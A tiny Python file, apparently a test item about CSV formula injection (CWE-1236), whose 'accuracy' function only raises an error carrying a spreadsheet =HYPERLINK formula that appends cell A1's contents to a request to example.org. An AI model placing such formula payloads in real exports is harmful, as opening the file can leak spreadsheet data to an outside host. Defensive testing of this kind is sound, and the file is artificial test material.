"""Texts that a spreadsheet takes for formulas.

Met by: every export to CSV; catalogued as CWE-1236.
"""

from honest import *

HONEST_POINTS = 4
EXPECTED_STATUS = "error"


def accuracy(scores, labels):
    raise ValueError('=HYPERLINK("http://example.org/?" & A1, "click")')
